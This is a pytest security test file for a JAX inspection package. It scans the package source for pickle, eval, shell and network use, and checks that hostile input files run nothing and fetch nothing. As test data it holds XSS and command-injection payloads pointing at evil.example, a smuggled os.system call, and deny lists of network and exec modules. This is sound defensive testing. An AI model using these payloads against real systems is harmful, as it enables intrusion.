"""What `docs/security.md` promises: no pickle, eval, shell or network, and no file written that nobody asked for.

Two ways: the package's source is searched for what could do such things, and a process that reads hostile files is
watched while it does. Not its job: damaged files (`parse/test_damage.py`), escaping (`view/test_html.py`).
"""

from __future__ import annotations

import ast
import json
import re
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import jax
import numpy as np
import pytest

import pjit_inspect
from pjit_inspect.api import CompileRecord
from pjit_inspect.model.program.layout import ArrayLayout
from pjit_inspect.model.program.source import Frame
from pjit_inspect.model.record.blob import Blob
from pjit_inspect.model.record.record import RecordData

PACKAGE = Path(pjit_inspect.__file__).parent
SECURITY = (PACKAGE.parent / "docs" / "security.md").read_text(encoding="utf-8")

# ---------------------------------------------------------------- what the source could do

MODULES = {
    *("pickle", "cPickle", "marshal", "shelve", "dill", "cloudpickle", "joblib", "copyreg", "yaml"),
    *("socket", "socketserver", "ssl", "http", "urllib", "requests", "httpx", "aiohttp", "ftplib", "smtplib", "xmlrpc"),
    *("subprocess", "multiprocessing", "pty", "ctypes", "cffi", "webbrowser", "code", "codeop", "runpy"),
    *("tempfile", "shutil", "asyncio", "concurrent"),
}
"""Modules that read code from data, reach a network, start programs or make files."""

NAMES = {"eval", "exec", "compile", "__import__", "breakpoint", "execfile"}
"""Built-in functions that run text, by their bare names."""

OS = re.compile(r"os\.(system|popen|exec\w*|spawn\w*|posix_spawn\w*|fork\w*|startfile|putenv|kill\w*|chmod|chown)")

WRITES = {
    *("write_text", "write_bytes", "unlink", "rmdir", "mkdir", "makedirs", "rename", "replace", "touch", "symlink_to"),
    *("remove", "rmtree", "hardlink_to", "truncate", "savefig", "write_html", "mkstemp", "mkdtemp"),
}
"""Names of functions that change files; `replace` only as `os.replace`, as text and dataclasses have one too."""

ALLOWED: dict[tuple[str, str], str] = {
    ("ipython/run.py", "exec"): "runs the statements the user typed after %pjit, as the cell itself would",
    ("ipython/run.py", "eval"): "the same for the expression whose value is shown",
    (
        "observe/errors/check.py",
        "compile",
    ): "an expression of the user's own line, every name of it bound to a checked value",
    ("observe/errors/check.py", "eval"): "the same, with abstract arrays, without builtins or functions of the user's",
    ("handles/play/live.py", "import tempfile"): "a page that goes into the playground is written there, and removed",
    ("handles/play/live.py", "self._play.rename"): "gives a variant another name; no file",
    ("handles/upgrade/apart.py", "import subprocess"): "runs itself in the environment that `upgrade` was asked for",
    (
        "handles/upgrade/apart.py",
        "import_module of a name that is not written there",
    ): "the module whose function is asked",
    ("handles/upgrade/apart.py", "import tempfile"): "a folder for what that leaves, removed",
    ("handles/upgrade/apart.py", "home.mkdir"): "a folder in it by which that process finds this package alone",
    ("handles/upgrade/apart.py", "(home / _PACKAGE).symlink_to"): "the link in that folder",
    ("handles/upgrade/apart.py", "(folder / _DONE).write_bytes"): "that process leaves there what it has, or why not",
    ("handles/upgrade/upgrade.py", "import tempfile"): "a folder for the records that are compiled again, removed",
    ("handles/upgrade/environment.py", "import subprocess"): "runs venv and pip, or uv, as `upgrade` was asked to",
    ("handles/upgrade/environment.py", "import tempfile"): "an environment is begun beside its place",
    ("handles/upgrade/environment.py", "import shutil"): "finds uv on the path",
    ("handles/upgrade/environment.py", "shutil.rmtree"): "removes what is left of an environment that is not whole",
    ("handles/upgrade/environment.py", "place.parent.mkdir"): "the folder of environments in the user's cache",
    ("handles/upgrade/environment.py", "(begun / _WHOLE).touch"): "marks an environment as whole",
    ("handles/upgrade/environment.py", "os.replace"): "puts the whole environment in its place",
    ("observe/apart/interpreter.py", "import socket"): "looks whether this system passes open files over sockets",
    ("observe/apart/interpreter.py", "import subprocess"): "starts this Python with `start.py`",
    ("observe/apart/interpreter.py", "import ctypes"): "asks the system whether this process adopts others",
    ("observe/apart/interpreter.py", "os.killpg"): "ends a program that does not start in time",
    (
        "observe/apart/messages.py",
        "import socket",
    ): "a pair of ends that only two processes hold, and what goes over it",
    ("observe/apart/messages.py", "import tempfile"): "programs go in files without a name",
    ("observe/apart/call.py", "import socket"): "closes its end for good",
    ("observe/apart/call.py", "os.kill"): "ends a helper that is stopped",
    ("observe/apart/start.py", "os.fork"): "detaches the helper from the user's process",
    ("api.py", "import_module of a name that is not written there"): "a module of the table above it",
    ("observe/apart/tasks.py", "import_module of a name that is not written there"): "the same",
    ("observe/apart/server.py", "import_module of a name that is not written there"): "the same, before it forks",
    ("observe/apart/server.py", "os.fork"): "a process answers each question",
    ("observe/apart/server.py", "os.kill"): "ends that process; asks whether the user's process is there",
    ("observe/apart/worker.py", "import ctypes"): "asks the system to end that process with its server",
    ("observe/apart/worker.py", "open 'w'"): "its standard error, under another name",
    ("observe/partitioner/answers.py", "import shutil"): "removes the folder of XLA's dump",
    ("observe/partitioner/answers.py", "shutil.rmtree"): "removes that folder",
    ("observe/partitioner/child.py", "os.open"): "a file for standard error",
    ("observe/partitioner/dump.py", "import tempfile"): "XLA writes its dump into a folder that is removed at once",
    ("observe/partitioner/dump.py", "tempfile.mkdtemp"): "makes that folder",
    ("observe/partitioner/dump.py", "import shutil"): "removes folders that servers left which were killed",
    ("observe/partitioner/dump.py", "shutil.rmtree"): "removes those folders",
    ("observe/partitioner/dump.py", "os.open"): "XLA's dump to read, and its folder to hold",
    ("observe/partitioner/dump.py", "part.write_bytes"): "a child leaves what it knows in that folder",
    ("observe/profiler/profiler.py", "import tempfile"): "JAX's profiler writes into a folder that is removed at once",
    ("parse/files/whole_file.py", "import shutil"): "keeps the permissions of a file that is replaced",
    ("parse/files/whole_file.py", "os.replace"): "puts the whole new file in the place of the old one",
    ("parse/files/whole_file.py", "os.unlink"): "writing that failed removes what it had written",
    ("parse/files/whole_file.py", "open 'xb'"): "writes beside the file that was asked for",
    ("parse/files/whole_file.py", "os.open"): "the same, without a name until it is whole",
    ("parse/files/whole_file.py", "os.chmod"): "the permissions of the file that is replaced",
    ("parse/files/whole_file.py", "os.chown"): "the owner of the file that is replaced",
    (
        "parse/files/record_folder.py",
        "(folder / name).unlink",
    ): "Log.save removes what an earlier save left there",
    ("parse/files/record_folder.py", "folder.mkdir"): "Log.save makes the folder that was asked for",
    ("parse/files/record_folder.py", "os.open"): "a lock on that folder, which is only read",
    ("parse/files/record_folder.py", "folder.rmdir"): "and removes it where saving failed",
    ("cli/__init__.py", "os.open"): "the null device, in the place of a closed standard output",
    ("cli/query.py", "path.parent.mkdir"): "`skill` makes the folder that was asked for",
    ("cli/query.py", "import tempfile"): "an answer that is too long to print goes to a file, which the answer names",
    ("testing/plugin.py", "path.parent.mkdir"): "the folder of the goldens, which --pjit-golden-update asked for",
    ("testing/plugin.py", "folder.mkdir"): "the folder that --pjit-report named",
    ("testing/failure.py", "import tempfile"): "a message that is longer than a screen goes to a file, which it names",
    ("testing/__init__.py", "import_module of a name that is not written there"): "a module of the table above it",
    ("parse/files/regular_file.py", "os.open"): "opens the file that was asked for, to read",
}
"""Where the package does one of these things, and why that is no harm: (module, what) -> reason."""


def findings(source: str) -> Iterator[str]:
    """Everything in a source text that could do harm, as the allow-list names it."""
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Import):
            yield from (f"import {name.name}" for name in node.names if name.name.split(".")[0] in MODULES)
        elif isinstance(node, ast.ImportFrom) and not node.level and (node.module or "").split(".")[0] in MODULES:
            yield f"import {node.module}"
        elif isinstance(node, ast.Name) and node.id in NAMES:
            yield node.id
        elif isinstance(node, ast.Attribute):
            yield from attribute_findings(node)
        elif isinstance(node, ast.Call):
            yield from call_findings(node)


def attribute_findings(node: ast.Attribute) -> Iterator[str]:
    text = ast.unparse(node)
    is_write = node.attr in WRITES and (node.attr not in ("replace", "remove") or text.startswith("os."))
    if is_write or OS.fullmatch(text) or text == "os.open":
        yield text


def call_findings(node: ast.Call) -> Iterator[str]:
    for keyword in node.keywords:
        if keyword.arg == "shell" and not (isinstance(keyword.value, ast.Constant) and keyword.value.value is False):
            yield "shell="
        if keyword.arg == "allow_pickle":
            yield "allow_pickle="
    name = ast.unparse(node.func)
    if name.endswith("import_module") and not (node.args and isinstance(node.args[0], ast.Constant | ast.Attribute)):
        yield "import_module of a name that is not written there"
    mode = open_mode(node) if name in ("open", "io.open") or name.endswith(".open") else None
    if mode is not None and not set(mode) <= set("rbt"):
        yield f"open {mode!r}"


def open_mode(node: ast.Call) -> str | None:
    """The mode of a call of `open`; None when it has none that is written there."""
    given = [*node.args[1:2], *(keyword.value for keyword in node.keywords if keyword.arg == "mode")]
    return next((str(value.value) for value in given if isinstance(value, ast.Constant)), None)


def package_findings() -> set[tuple[str, str]]:
    files = sorted(PACKAGE.rglob("*.py"))
    return {
        (path.relative_to(PACKAGE).as_posix(), found)
        for path in files
        for found in findings(path.read_text(encoding="utf-8"))
    }


def test_nothing_in_the_package_could_do_harm_but_what_is_listed_with_its_reason():
    assert package_findings() - ALLOWED.keys() == set()


def test_nothing_is_listed_that_is_not_there_any_more():
    assert ALLOWED.keys() - package_findings() == set()
    assert all(ALLOWED.values())


@pytest.mark.parametrize(
    "source",
    [
        "import pickle",
        "from urllib.request import urlopen",
        "import socket as s",
        "def f():\n    import subprocess",
        "eval('1')",
        "run = exec",
        "compile(text, '', 'exec')",
        "import os\nos.system('ls')",
        "os.popen('ls')",
        "os.execv('/bin/sh', [])",
        "Popen('ls', shell=True)",
        "Popen('ls', shell=flag)",
        "yaml.load(text)\nimport yaml",
        "numpy.load(path, allow_pickle=True)",
        "importlib.import_module(name)",
        "open(path, 'w')",
        "path.open(mode='a')",
        "path.write_text('')",
        "os.remove(path)",
        "shutil.rmtree(path)",
    ],
)
def test_what_could_do_harm_is_found(source: str):
    assert list(findings(source))


@pytest.mark.parametrize(
    "source",
    [
        "re.compile('x')",
        "shell.compile(tree, file, 'exec')",
        "open(path, 'rb')",
        "text.replace('a', 'b')",
        "dataclasses.replace(a, b=1)",
        "names.remove(x)",
        "importlib.import_module('jaxlib._hlo')",
        "'eval'",
    ],
)
def test_what_does_no_harm_is_not_reported(source: str):
    assert not list(findings(source))


def test_the_documentation_names_every_module_that_is_listed():
    missing = {module for module, _ in ALLOWED} - set(re.findall(r"`([\w/]+\.py)`", SECURITY))
    assert not missing


def test_every_test_the_documentation_names_is_there():
    named = re.findall(r"`(tests/[\w/]+\.py|scripts/\w+)`", SECURITY)
    assert named
    assert not [path for path in named if not (PACKAGE.parent / path).exists()]


# ---------------------------------------------------------------- what reading hostile files does

WATCHED = """
import json, os, socket, sys
seen = {"opened": [], "written": [], "started": [], "other": []}
def watch(event, arguments):
    if event == "open":
        path, mode, flags = arguments
        if isinstance(path, int):
            return  # A pipe or the like that is open already.
        writes = flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND)
        seen["written" if writes else "opened"].append(str(path))
    elif event == "subprocess.Popen":
        seen["started"].append([str(part) for part in arguments[1]])
    elif event == "socket.__new__" and arguments[1] == socket.AF_UNIX:
        return  # An end of a pair that only two processes of ours hold.
    elif event == "socket.sendmsg" and arguments[0].family == socket.AF_UNIX:
        return  # Files go over it.
    elif event.startswith(("socket.", "pickle.", "os.system", "os.exec", "os.fork", "urllib.", "webbrowser.")):
        seen["other"].append(event)
import pjit_inspect, pjit_inspect.observe.shardy.mlir_process
import pjit_inspect as pi
folder = sys.argv[1]
# Modules read themselves when they are loaded; what comes after is the files' doing.
for path in ("hostile.pjit", "hostile.hlo"):
    str(pi.open(os.path.join(folder, path)).show())
# So that its start is seen.
pjit_inspect.observe.shardy.mlir_process.stop_child()
sys.addaudithook(watch)
for path in ("hostile.pjit", "hostile.hlo"):
    record = pi.open(os.path.join(folder, path))
    str(record), record._repr_mimebundle_(), record.explain(), record.shardings, record.warnings, record.reason
    record.stablehlo, record.hlo_text
    record.to_html(os.path.join(folder, path + ".html"))
    record.save(os.path.join(folder, path + ".copy.pjit"))
str(pi.merge(folder))
seen["jax"] = [name for name in sys.modules if name.split(".")[0] in ("jax", "jaxlib")]
print(json.dumps(seen))
"""

HLO = """HloModule jit_f, is_scheduled=true
FileNames
1 "{secret}"
FunctionNames
1 "f"
FileLocations
1 {{file_name_id=1 function_name_id=1 line=1 end_line=1 column=1 end_column=2}}
StackFrames
1 {{file_location_id=1 parent_frame_id=1}}
%add (a: f32[], b: f32[]) -> f32[] {{
  %a = f32[] parameter(0)
  %b = f32[] parameter(1)
  ROOT %sum = f32[] add(%a, %b)
}}
ENTRY %main (p: f32[8]) -> f32[8] {{
  %p = f32[8]{{0}} parameter(0)
  ROOT %r = f32[8]{{0}} all-reduce(%p), channel_id=1, to_apply=%add, metadata={{op_name="{name}" stack_frame_id=1}}
}}
"""

NAME = "<script src='https://evil.example/x.js'></script><img src=x onerror=fetch('//evil.example')>$(touch pwned)"


def hostile_record(secret: str, hlo: Blob | None) -> RecordData:
    frame = Frame(file=secret, line=1, function=NAME, cell=NAME)
    return RecordData(
        name=NAME,
        transform=NAME,
        user_frame=frame,
        defined_at=frame,
        inputs=(ArrayLayout(path=NAME, dtype="float32", global_shape=(8,), sharding=None),),
        jaxpr=NAME,
        stablehlo=Blob(b"ML\xefR" + b"\xff" * 200),
        hlo=hlo,
        compiler_log=NAME,
        versions={NAME: NAME},
        flags={NAME: NAME},
        process_index=0,
        process_count=1,
    )


def hlo_of(secret: str) -> str:
    return HLO.format(secret=secret, name="__import__('os').system('touch pwned')")


@pytest.fixture(scope="module")
def watched(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, list]]:
    folder = tmp_path_factory.mktemp("hostile")
    secret = folder / "secret.txt"
    secret.write_text("the secret")
    (folder / "hostile.hlo").write_text(hlo_of(str(secret)))
    opened = pjit_inspect.open(folder / "hostile.hlo")
    assert isinstance(opened, CompileRecord)
    CompileRecord(hostile_record(str(secret), opened.data.hlo)).save(folder / "hostile.pjit")
    done = subprocess.run(
        [sys.executable, "-c", WATCHED, str(folder)], capture_output=True, text=True, cwd=folder, check=False
    )
    assert done.returncode == 0, done.stderr
    return folder, json.loads(done.stdout.splitlines()[-1])


def test_reading_hostile_files_reaches_no_network_and_runs_nothing_of_theirs(watched):
    folder, seen = watched
    assert seen["other"] == []
    assert not (folder / "pwned").exists()
    # The one process that is started prints HLO, and is this package's own.
    assert seen["started"]
    for command in seen["started"]:
        assert command[1:6] == ["-I", "-S", "-P", "-W", "ignore"]
        assert command[6] == str(PACKAGE / "observe" / "apart" / "start.py")


def test_reading_hostile_files_opens_none_that_they_name(watched):
    folder, seen = watched
    assert str(folder / "secret.txt") not in seen["opened"]
    for page in folder.glob("*.html"):
        assert "the secret" not in page.read_text(encoding="utf-8")


def test_reading_hostile_files_gives_none_of_their_bytes_to_jaxlib_in_this_process(watched):
    folder, seen = watched
    assert seen["jax"] == []
    # Its bytecode would end the process: JAX 0.10.2 aborts on some damaged bytecode, and corrupts its heap on other.
    record = pjit_inspect.load(folder / "hostile.pjit")
    assert record.data.stablehlo is not None
    assert record.stablehlo is None


def test_a_damaged_program_costs_its_text_and_not_the_process_or_the_next_one():
    data = pjit_inspect.inspect(jax.jit(lambda x: x * 2), np.ones(3)).data
    assert data.hlo is not None
    whole = data.hlo.read()
    cuts = [b"", b"\xff" * 100, whole[:40]]
    if jax.__version_info__ >= (0, 8, 2):  # jaxlib 0.8.1 takes a program whose table of source frames is cut
        cuts.append(whole[: len(whole) // 2])
    for damaged in cuts:
        assert CompileRecord(replace(data, hlo=Blob(damaged))).hlo_text in (None, "")
    text = CompileRecord(data).hlo_text
    assert text is not None
    assert "multiply" in text


def test_only_the_files_that_were_asked_for_are_written(watched):
    folder, seen = watched
    written = {Path(path).name for path in seen["written"] if path != "/dev/null"}
    temporary = re.compile(r"\.pjit_inspect-[0-9a-f]{16}\.tmp")
    # The folder, as files have no names there until they are whole.
    assert {name for name in written if not temporary.fullmatch(name)} <= {folder.name}
    assert sorted(path.name for path in folder.iterdir()) == [
        "hostile.hlo", "hostile.hlo.copy.pjit", "hostile.hlo.html", "hostile.pjit", "hostile.pjit.copy.pjit",
        "hostile.pjit.html", "secret.txt",
    ]  # fmt: skip


# ---------------------------------------------------------------- pages

LOADS = {"src", "srcset", "href", "action", "formaction", "data", "poster", "background", "ping", "cite", "manifest"}


class Addresses(HTMLParser):
    """Every address a page would go to: attributes that load, and `url(...)` in styles."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self._is_style = False
        self.feed(page)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self._is_style = tag == "style"
        for name, value in attributes:
            if name in LOADS:
                self.found.append(value or "")
            if name == "style":
                self.handle_style(value or "")
            if name == "srcdoc":
                self.found += Addresses(value or "").found
            assert not name.startswith("on"), (tag, name)

    def handle_data(self, data: str) -> None:
        if self._is_style:
            self.handle_style(data)

    def handle_style(self, text: str) -> None:
        self.found += re.findall(r"(?:url\(|@import)\s*['\"]?([^'\")]*)", text)


def test_exported_pages_name_no_network_address(watched, tmp_path: Path):
    folder, _ = watched
    pages = [path.read_text(encoding="utf-8") for path in folder.glob("*.html")]
    record = pjit_inspect.open(folder / "hostile.hlo")
    assert isinstance(record, CompileRecord)
    pages += [record._repr_mimebundle_()["text/html"], record.explain()._repr_mimebundle_()["text/html"]]
    pages.append(pjit_inspect.merge(folder / "hostile.pjit")._repr_mimebundle_()["text/html"])
    assert len(pages) == 5
    for page in pages:
        assert [address for address in Addresses(page).found if not address.startswith("data:")] == []


@pytest.mark.parametrize("bundle", ["loader.js", "inspector.js", "compare.js", "play.js", "passes.js"])
def test_the_script_of_the_pages_names_no_address_but_the_name_of_svg(bundle: str):
    script = (PACKAGE / "view" / "front" / bundle).read_text(encoding="utf-8")
    assert set(re.findall(r"(?:https?|wss?|ftp)://[^\"'` )]*", script)) <= {"http://www.w3.org/2000/svg"}
    calls = r"\b(fetch|XMLHttpRequest|WebSocket|EventSource|sendBeacon|importScripts|RTCPeerConnection|eval|Function)\("
    assert not re.search(calls, script)
    assert not re.search(r"\bimport\s*\(|\.innerHTML|\.outerHTML|insertAdjacentHTML|document\.write", script)


def test_an_address_in_a_page_is_found():
    page = (
        "<style>@import 'https://a'; p {background: url(//b)}</style><img src='https://c'><p style='x: url(d)'></p>"
        "<iframe srcdoc='&lt;script src=e>&lt;/script>'></iframe>"
    )
    assert Addresses(page).found == ["https://a", "//b", "https://c", "d", "e"]
